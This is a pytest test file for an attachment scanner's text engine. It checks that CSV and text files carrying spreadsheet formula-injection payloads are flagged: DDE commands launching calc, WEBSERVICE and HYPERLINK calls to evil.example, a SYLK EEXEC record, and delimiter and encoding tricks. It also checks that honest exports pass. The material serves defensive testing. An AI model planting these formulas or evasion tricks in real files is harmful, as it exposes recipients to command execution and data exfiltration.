"""Text engine: DDE commands wherever Excel's formula grammar takes an operand, and cells split
as Excel splits them under a ``sep=`` line (red team 62), without flagging honest CSVs."""

from __future__ import annotations

import pytest

from attachguard.codes import FindingCode
from attachguard.engines.base import Item, Result
from attachguard.engines.text import TextEngine, classify
from attachguard.formats.formulas import runs_command
from attachguard.policy import Policy
from attachguard.report import FileType

CSV_TYPE = FileType("csv", "text/csv", "code", True)
TXT_TYPE = FileType("txt", "text/plain", "text", True)
DDE = "cmd|' /C calc.exe'!A0"
HEADER = "name,amount,note\r\n"

# A DDE command after every operator of Excel's grammar, and after the intersection space
OPERANDS = [
    f"=0<{DDE}",
    f"=0>{DDE}",
    f"=1<>{DDE}",
    f"=1<={DDE}",
    f"=1>={DDE}",
    f"=1=-{DDE}",
    f"=A1:{DDE}",  # range
    f"=A1 {DDE}",  # intersection
    f"=(A1:B2) {DDE}",
    f"=Table1[Amount] {DDE}",
    f"=1%+{DDE}",
    f"=2^{DDE}",
    f'="total: "&{DDE}',
    f"+0<{DDE}",
    f"-1<>{DDE}",
    f"@A1 {DDE}",
    "=cmd|' /C calc.exe\n'!A0",  # a line break in the quoted topic (one CSV cell)
]
HONEST = [
    "-5",
    "-12.50",
    "a<b",
    "x <> y | z!",
    "=1<2",
    "=A1<>B1",
    "bob@example.com",
    "@bob see you|soon",
    "foo | bar!",
    "- item 2 missing | see photo!",
    "- 5 < 10 items | ok!",
    "+ in stock: yes | no!",
    '=A1&" ok|done!"',  # a pipe inside a text constant is text
    '="a<cmd|x!y"',
]


def scan(policy: Policy, name: str, data: bytes, filetype: FileType = CSV_TYPE) -> Result:
    return TextEngine().scan(Item(name, data, filetype), policy.context())


def locations(result: Result) -> list[str | None]:
    assert all(f.code is FindingCode.FORMULA_INJECTION for f in result.findings)
    return [f.location for f in result.findings]


def quoted(cell: str) -> str:
    return '"' + cell.replace('"', '""') + '"'


@pytest.mark.parametrize("cell", OPERANDS)
def test_dde_after_any_operator_is_found(policy: Policy, cell: str) -> None:
    assert classify(cell) == "a formula that runs a command (DDE)"
    data = (HEADER + f"Bob,12,{quoted(cell)}\r\n").encode()
    assert locations(scan(policy, "orders.csv", data)) == ["row 2, column 3"]


@pytest.mark.parametrize("cell", HONEST)
def test_honest_cells_pass(policy: Policy, cell: str) -> None:
    assert classify(cell) is None
    data = (HEADER + f"Ann,-5,{quoted(cell)}\r\n").encode()
    assert scan(policy, "orders.csv", data).findings == []


def test_utf16_tab_separated_comparison(policy: Policy) -> None:
    text = f"name\tnote\r\nBob\t=0<{DDE}\r\n"
    data = b"\xff\xfe" + text.encode("utf-16-le")
    assert locations(scan(policy, "export.csv", data, TXT_TYPE)) == ["row 2, column 2"]


def test_an_array_constant_holds_no_command() -> None:
    # Excel refuses ={cmd|'x'!A0} (an array holds constants only), so nothing runs; a
    # command after the array's "," or ";" is still found, as any list separator.
    assert classify("={" + DDE + "}") is None
    assert not runs_command("{" + DDE + "}")
    assert runs_command("{1;" + DDE + "}")


def test_text_constants_are_not_commands() -> None:
    assert not runs_command(f'"x<{DDE}"')
    assert not runs_command(f'CONCAT("a ", "b,{DDE}")')
    assert not runs_command('"DDE(x)"')
    assert runs_command(f'"a"&{DDE}')
    assert runs_command('cmd|" /C calc"!A0')  # a quoted topic is the command's own


@pytest.mark.parametrize(
    ("data", "where"),
    [
        (f"sep=X\r\nnameXamountXnote\r\nBobX12X={DDE}\r\n", "row 3, column 3"),
        (
            'sep=Q\r\nnameQnote\r\nBobQ=HYPERLINK("\\\\evil.example\\s\\x","Invoice")\r\n',
            "row 3, column 2",
        ),
        (
            'sep=W\r\nnameWnote\r\nBobW=webservice("http://evil.example/?"&A1)\r\n',
            "row 3, column 2",
        ),
        (f"\ufeffsep=X\r\nnameXnote\r\nBobX={DDE}\r\n", "row 3, column 2"),  # after a BOM
        (f"SEP=Z\r\nnameZnote\r\nBobZ+0<{DDE}\r\n", "row 3, column 2"),
    ],
)
def test_sep_delimiter_is_taken_as_written(policy: Policy, data: str, where: str) -> None:
    assert locations(scan(policy, "orders.csv", data.encode())) == [where]


def test_sep_lower_case_letter_does_not_split_on_its_capital(policy: Policy) -> None:
    # sep=w: Excel splits on w only; "BobW=cmd..." is one cell starting with B, text.
    data = f"sep=w\r\nnamewnote\r\nBobW={DDE}\r\n".encode()
    assert scan(policy, "orders.csv", data).findings == []


def test_sep_pipe_splits_the_command_itself(policy: Policy) -> None:
    # Split on |, the cells are "Bob", "=cmd" and "' /C calc.exe'!A0": no command runs, and
    # read without the sep= line the row is one cell starting with "B".
    data = f"sep=|\r\nname|note\r\nBob|={DDE}\r\n".encode()
    assert scan(policy, "orders.csv", data).findings == []


def test_cell_split_again_on_the_declared_delimiter(policy: Policy) -> None:
    # The csv module reads "Bob;1" as one quoted cell with an unbalanced quote to the line's
    # end; each cell is checked again split on the declared delimiter as a backstop.
    data = f'sep=X\r\nnameXnote\r\n"BobX1"X"noteX={DDE}"\r\n'.encode()
    assert locations(scan(policy, "orders.csv", data)) == ["row 3, column 2"]


def test_european_excel_export_passes(policy: Policy) -> None:
    data = (
        "sep=;\r\nName;Betrag;Notiz;E-Mail\r\n"
        "Müller;-3,50;Rückgabe | siehe Foto!;m.mueller@example.de\r\n"
        "Dupont;+12,00;a<b, x>y;@dupont\r\n"
        "Rossi;-0,99;- Artikel 2 fehlt (Foto);\r\n"
    ).encode("utf-8-sig")
    assert scan(policy, "export.csv", data).findings == []


def test_text_file_gets_the_dde_rule_after_any_operator(policy: Policy) -> None:
    data = f"Bob\t12\t=0<{DDE}\r\nAnn\t3\t=A1:{DDE}\r\n".encode()
    assert locations(scan(policy, "notes.txt", data, TXT_TYPE)) == ["line 1", "line 2"]


def test_text_file_keeps_its_policy(policy: Policy) -> None:
    # A .txt opens in Notepad; only the DDE rule applies (Excel would import it only by hand),
    # and a space before "a|b!" in a line of text or code is no operator there.
    data = (
        b'Bob\t12\t=HYPERLINK("\\\\evil.example\\s\\x","Invoice")\r\n'
        b'Ann\t3\t=WEBSERVICE("http://evil.example/?"&A1)\r\n'
        b"- return flags|mask!=0;\r\n"
    )
    assert scan(policy, "notes.txt", data, TXT_TYPE).findings == []


# -- red team 73: quotes inside a quoted topic; prose with a pipe and a "!" ---------------------


@pytest.mark.parametrize(
    "cell",
    [
        "=cmd|' /C \"calc'!A0",  # a " inside the single-quoted topic
        "=1+cmd|' /C calc \"x'!A0",
        '=cmd|\' /C "calc\'!A0&"x"',
        "=x&\"open cmd|' /C calc'!A0",  # a text constant left open is not blanked
        "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",  # a quoted item
    ],
    ids=["dquote-open", "dquote-mid", "dquote-then-text", "unterminated", "quoted-item"],
)
def test_quotes_do_not_hide_the_command(policy: Policy, cell: str) -> None:
    assert classify(cell) == "a formula that runs a command (DDE)"
    data = (HEADER + f"Bob,12,{quoted(cell)}\r\n").encode()
    assert locations(scan(policy, "orders.csv", data)) == ["row 2, column 3"]


@pytest.mark.parametrize(
    "cell",
    ["+1 spare; a|b! ok", "-2 short, x|y!", '=A1&" it\'s a|b!c"', "+ yes|no! maybe"],
    ids=["bang-then-space", "bang-at-end", "apostrophe-in-text", "plus-prose"],
)
def test_prose_with_a_pipe_and_a_bang_passes(policy: Policy, cell: str) -> None:
    assert classify(cell) is None
    data = (HEADER + f"Ann,-5,{quoted(cell)}\r\n").encode()
    assert scan(policy, "orders.csv", data).findings == []


# -- red team 90: quoting read per delimiter, and Excel's reading of a UTF-32 mark --------------

# Which quote opens a field depends on the delimiter: `2;"x` quotes under ";", not under ",".
# Read with the sniffed ";", the command is inside one quoted field; Excel in a "," locale
# reads the quote as a character and the command as the first cell of a row of its own.
DESYNC_SEMICOLON = f'id;name\r\n1;alice\r\n2;"x\r\n={DDE}\r\ny";bob\r\n3;carol\r\n'
# the mirror: sniffed ",", and a ";" locale (German, French Excel) splits the other way
DESYNC_COMMA = f'id,name,city\r\n1,alice,Paris\r\n2,"x;y\r\n={DDE}\r\nz",Lyon\r\n3,bob,Nice\r\n'


@pytest.mark.parametrize(
    ("data", "row"),
    [
        (DESYNC_SEMICOLON.encode(), "row 4, column 1"),
        (DESYNC_COMMA.encode(), "row 4, column 1"),
        # UTF-16 with its mark: Excel splits on tabs whatever the sniffer says
        (
            b"\xff\xfe" + f'id,name\r\n1,"a\tb"\r\n2,x\t"y\r\n={DDE}\r\nz"\r\n'.encode("utf-16-le"),
            "row 4, column 1",
        ),
    ],
    ids=["sniffed-semicolon", "sniffed-comma", "utf16-tabs"],
)
def test_quoting_is_read_per_delimiter(policy: Policy, data: bytes, row: str) -> None:
    assert row in locations(scan(policy, "export.csv", data))


def test_a_utf32_mark_is_also_read_as_excel_reads_it(policy: Policy) -> None:
    # FF FE 00 00 is UTF-32 to Python; Excel knows no UTF-32: a UTF-16 mark, then a NUL
    data = b"\xff\xfe\x00\x00" + f"\r\nid\tname\r\n={DDE}\tx\r\n".encode("utf-16-le")
    assert locations(scan(policy, "export.csv", data)) == ["row 3, column 1"]


def test_quoted_fields_that_read_alike_under_every_delimiter_pass(policy: Policy) -> None:
    data = (
        b'id,name,note\r\n1,"Smith; John","paid (cash) | thanks!"\r\n'
        b'2,"Doe, Jane","multi\r\nline note (see photo)!"\r\n'
        b"3,Bob,-12.50\r\n"
    )
    assert scan(policy, "export.csv", data).findings == []


@pytest.mark.parametrize(
    ("data", "sylk"),
    [
        (b'ID\r\nC;X1;Y1;EEXEC("calc.exe")\r\nE\r\n', True),  # a bare ID record, then SYLK
        (b"ID;PWXL;N;E\r\nC;X1;Y1;K1\r\nE\r\n", True),
        (b"ID,Name\r\n1,Ann\r\n", False),  # a first column named ID
        (b"ID\r\n17\r\n18\r\n", False),  # a list of IDs
    ],
)
def test_sylk_is_told_from_a_csv_whose_first_column_is_id(
    policy: Policy, data: bytes, sylk: bool
) -> None:
    found = [f.code.name for f in scan(policy, "export.csv", data).findings]
    assert (found == ["XLM_MACRO"]) is sylk


def test_a_topic_with_doubled_apostrophes_is_read_whole(policy: Policy) -> None:
    # inside a quoted topic an apostrophe is doubled, as in every quoted name (red team 95)
    assert runs_command("=cmd|' /C calc.exe ''x'''!A0")
    assert runs_command("=cmd|'/c echo it''s'!'A1'")
    assert not runs_command("=it''s a|b! ok")
